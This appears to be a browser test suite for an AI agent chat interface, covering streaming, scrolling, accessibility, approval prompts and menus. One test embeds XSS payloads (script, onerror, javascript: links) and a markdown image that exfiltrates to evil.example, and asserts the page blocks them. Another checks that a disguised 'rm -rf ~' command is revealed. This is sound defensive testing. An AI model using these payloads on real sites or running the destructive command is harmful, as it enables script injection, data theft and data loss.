import assert from 'node:assert/strict';
import { after, before, beforeEach, test } from 'node:test';
import type { Page } from 'playwright-core';
import { KitBrowser } from '../../testing/kit-browser.ts';

const kit = new KitBrowser();
before(() => kit.start());
after(() => kit.stop());
beforeEach(() => {
  kit.complaints.length = 0;
});

const past = 2_000;

async function openStream(): Promise<Page> {
  const page = await kit.open(`?stream&past=${past}`);
  await page.getByText('waiting for you').waitFor();
  return page;
}

/** A frame has been drawn, and the one after it: everything that was asked for before is on the page. */
async function settle(page: Page): Promise<void> {
  await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));
}

async function distanceToEnd(page: Page): Promise<number> {
  return page.locator('.row-list').evaluate((list) => list.scrollHeight - list.clientHeight - list.scrollTop);
}

/** Appends deltas to one answer, one per frame. */
async function stream(page: Page, deltas: number): Promise<void> {
  await page.evaluate(async (count) => {
    const { kit } = window;
    if (!kit) throw new Error('no kit');
    if (!kit.log.state.items.some((item) => item.id === 'stream'))
      kit.log.item({ id: 'stream', kind: 'agent_message', text: '# Streaming\n\n' });
    for (let at = 0; at < count; at++) {
      kit.log.add({
        type: 'item.delta',
        itemId: 'stream',
        text: at % 12 === 11 ? 'end.\n\n' : 'some **bold** words and `code`, ',
      });
      kit.sync();
      await new Promise((done) => requestAnimationFrame(done));
    }
  }, deltas);
  await settle(page);
}

test('the sheet shows every component under the strict policy without a complaint', async () => {
  for (const theme of ['dark', 'light', 'hc']) {
    const page = await kit.open(`?theme=${theme}`);
    await page.locator('.sy-keyword').first().waitFor();
    assert.equal(await page.locator('.approval').count(), 6);
    await page.context().close();
  }
  assert.deepEqual(kit.complaints, []);
});

test('the page opens a session, the overview and the settings without a complaint', async () => {
  const page = await kit.open('?app#/s/session0001');
  await page.locator('.approval').waitFor();
  await page.evaluate(() => {
    location.hash = '#/settings';
  });
  await page.getByRole('heading', { name: 'Settings' }).waitFor();
  await page.evaluate(() => {
    location.hash = '#/';
  });
  await page.getByRole('heading', { name: 'Sessions', exact: true }).waitFor();
  assert.deepEqual(kit.complaints, []);
});

test('everything that can be pressed or typed into has a name', async () => {
  for (const path of ['', '?app#/s/session0001', '?app#/', '?app#/settings', '?app#/new']) {
    const page = await kit.open(path);
    await page.locator('button').first().waitFor();
    await settle(page);
    const tree = await page.locator('body').ariaSnapshot();
    const nameless = tree
      .split('\n')
      .filter((line) =>
        /^\s*- (button|link|textbox|checkbox|radio|switch|tab|combobox|menuitem)( \[[^\]]*\])*:?$/.test(line),
      );
    assert.deepEqual(nameless, [], path);
    await page.context().close();
  }
});

test('the composer does not render while an answer streams', async () => {
  const page = await openStream();
  await stream(page, 1);
  const before = await page.evaluate(() => ({ ...window.kit?.commits }));
  await stream(page, 120);
  const after = await page.evaluate(() => ({ ...window.kit?.commits }));
  assert.ok((after.conversation ?? 0) - (before.conversation ?? 0) >= 60, 'the conversation did render');
  assert.equal(after.composer, before.composer);
});

test('streaming keeps the end in sight, and leaves a reader who scrolled up where he is', async () => {
  const page = await openStream();
  await stream(page, 40);
  assert.ok((await distanceToEnd(page)) <= 1);
  await page.locator('.row-list').hover();
  await page.mouse.wheel(0, -400);
  await page.locator('.conversation__jump').waitFor();
  const anchor = () => page.locator('.row-list').evaluate((list) => list.scrollTop);
  const read = await anchor();
  await stream(page, 40);
  assert.equal(await anchor(), read);
  await page.getByRole('button', { name: 'Jump to latest' }).click();
  await settle(page);
  assert.ok((await distanceToEnd(page)) <= 1);
  await stream(page, 10);
  assert.ok((await distanceToEnd(page)) <= 1);
});

test('thousands of items mount a page full of them, and the first can be reached', async () => {
  const page = await openStream();
  const elements = () => page.evaluate(() => document.querySelectorAll('*').length);
  assert.ok((await elements()) < 1_500, `${await elements()} elements`);
  const first = page.locator('[data-row="message om0"]');
  for (let at = 0; at < 400 && !(await first.count()); at++) {
    await page.locator('.row-list').evaluate((list) => {
      list.scrollTop -= 4_000;
    });
    await settle(page);
  }
  assert.match((await first.textContent()) ?? '', /Item 0\./);
  assert.ok((await elements()) < 1_500, `${await elements()} elements`);
});

test('a page of history put before the reader moves nothing in sight', async () => {
  const page = await openStream();
  await page.evaluate(() => window.kit?.session.loadPage(200));
  await settle(page);
  await page.locator('.row-list').evaluate((list) => {
    list.scrollTop = list.scrollHeight / 2;
  });
  await settle(page);
  await settle(page);
  const place = () =>
    page.evaluate(() => {
      const list = document.querySelector('.row-list')?.getBoundingClientRect();
      const row = [...document.querySelectorAll('.row')].find(
        (one) => one.getBoundingClientRect().top > (list?.top ?? 0) + 100,
      );
      return { key: row?.getAttribute('data-row') ?? '', top: row?.getBoundingClientRect().top ?? 0 };
    });
  const before = await place();
  await page.evaluate(() => window.kit?.session.loadPage(200));
  await settle(page);
  const after = await page.evaluate(
    (key) => document.querySelector(`[data-row="${key}"]`)?.getBoundingClientRect().top ?? Number.NaN,
    before.key,
  );
  assert.ok(Math.abs(after - before.top) <= 1, `moved by ${after - before.top}`);
});

test('who comes back from the past holds no more of it than others, and sees the end', async () => {
  const page = await openStream();
  const held = () => page.evaluate(() => window.kit?.session.historyState.get().items.length ?? 0);
  await page.evaluate(() => {
    for (let at = 0; at < 5; at++) window.kit?.session.loadPage(200);
  });
  await settle(page);
  await page.locator('.row-list').hover();
  await page.mouse.wheel(0, -400);
  const jump = page.getByRole('button', { name: 'Jump to latest' });
  await jump.waitFor();
  assert.ok((await held()) >= 1_000);
  await jump.click();
  await settle(page);
  assert.ok((await held()) <= 500, `${await held()} items are held`);
  assert.ok((await distanceToEnd(page)) <= 1);
});

test('a hostile answer runs nothing, loads nothing and leads nowhere', async () => {
  const page = await openStream();
  const asked: string[] = [];
  // The page's own files may come late; none of them is named by an answer.
  const own = new URL('assets/', page.url()).href;
  page.on('request', (request) => !request.url().startsWith(own) && asked.push(request.url()));
  await page.evaluate(() => {
    const hostile = [
      '<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1">',
      '![x](https://evil.example/leak?secret) ![y](data:image/svg+xml;base64,PHN2Zz4=)',
      '[click](javascript:window.hacked=1) [b](data:text/html,<script>1</script>)',
      '<svg onload="window.hacked = 1"></svg><style>* { display: none }</style><iframe src="//evil.example">',
    ].join('\n\n');
    window.kit?.log.item({ id: 'hostile', kind: 'agent_message', status: 'completed', text: hostile });
    window.kit?.sync();
  });
  await page.getByText('click').waitFor();
  await settle(page);
  const row = page.locator('[data-row="hostile"]');
  assert.equal(await row.locator('script, iframe, style, svg[onload], img').count(), 0);
  assert.deepEqual(await row.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href'))), [
    'https://evil.example/leak?secret',
  ]);
  assert.equal(await page.evaluate(() => 'hacked' in window), false);
  assert.deepEqual(asked, []);
});

/** A session with a request, and a clock that can be put forward past the time in which no answer counts. */
async function openRequest(): Promise<Page> {
  const page = await kit.open('?app#/s/session0001');
  await page.clock.install();
  await page.reload();
  await page.locator('.approval').waitFor();
  return page;
}

test('a digit answers a request only after it was in sight, never while writing', async () => {
  const page = await openRequest();
  const answers = () => page.evaluate(() => window.kit?.session.sent.length ?? 0);
  await page.locator('#message-field').focus();
  await page.keyboard.press('1');
  assert.equal(await page.locator('#message-field').inputValue(), '1');
  assert.equal(await answers(), 0);
  await page.locator('.row-list').focus();
  await page.clock.fastForward(1_000);
  await page.keyboard.press('1');
  assert.deepEqual(await page.evaluate(() => window.kit?.session.sent), [
    { type: 'approval.answer', approvalId: 'ap1', hash: 'h', answer: { type: 'option', optionId: 'once' } },
  ]);
});

test('who answers by keyboard goes on writing', async () => {
  const page = await openRequest();
  await page.clock.fastForward(1_000);
  const allow = page.getByRole('button', { name: 'Allow once' });
  await allow.focus();
  await page.keyboard.press('Enter');
  assert.equal(await page.locator('#message-field').evaluate((field) => field === document.activeElement), true);
});

test('a command that hides its end shows it', async () => {
  const page = await kit.open('');
  const long = page.locator('.approval').nth(2);
  await long.locator('.exact__tail').waitFor();
  assert.match((await long.locator('.exact__end').textContent()) ?? '', /rm -rf build$/);
  const hostile = page.locator('.approval').nth(1);
  const shown = (await hostile.locator('.exact__text').textContent()) ?? '';
  assert.match(shown, /CR.*ESC.*\[2K.*ESC.*\[1A.*400 blanks.*; rm -rf ~ .*RLO.*gnp\.exe.*ZWSP.*↵\ncurl/);
});

test('the palette opens by key, runs by key and gives the focus back', async () => {
  const page = await kit.open('?app#/s/session0001');
  await page.locator('#message-field').focus();
  await page.keyboard.press('Control+k');
  await page.getByRole('combobox').fill('open settings');
  await page.keyboard.press('Enter');
  await page.getByRole('heading', { name: 'Settings' }).waitFor();
  await page.keyboard.press('Control+k');
  await page.getByRole('combobox').waitFor();
  await page.keyboard.press('Escape');
  await page.getByRole('combobox').waitFor({ state: 'detached' });
});

/** A menu takes the keys a moment after it is there. */
async function focused(page: Page, name: string): Promise<void> {
  await page.getByRole('menuitem', { name }).and(page.locator(':focus')).waitFor();
}

test('a menu is worked by keys alone', async () => {
  const page = await kit.open('?app#/s/session0001');
  const more = page.getByRole('button', { name: 'More' });
  await more.focus();
  await page.keyboard.press('ArrowDown');
  await focused(page, 'Rename');
  await page.keyboard.press('p');
  await focused(page, 'Pin');
  await page.keyboard.press('Escape');
  await page.getByRole('menu').waitFor({ state: 'detached' });
  await more.focus();
  await page.keyboard.press('ArrowDown');
  await focused(page, 'Rename');
  await page.keyboard.press('Enter');
  await page.getByRole('textbox', { name: 'Name of the session' }).waitFor();
});

test('on a phone the session list gives way, and the way back is there', async () => {
  const page = await kit.open('?app#/s/session0001', {
    viewport: { width: 390, height: 780 },
    hasTouch: true,
    isMobile: true,
  });
  await page.locator('.approval').waitFor();
  assert.equal(await page.locator('.side').count(), 0);
  assert.equal(await page.evaluate(() => document.documentElement.scrollWidth > innerWidth), false);
  await page.getByRole('button', { name: 'Back to sessions' }).click();
  await page.getByRole('heading', { name: 'Sessions', exact: true }).waitFor();
});
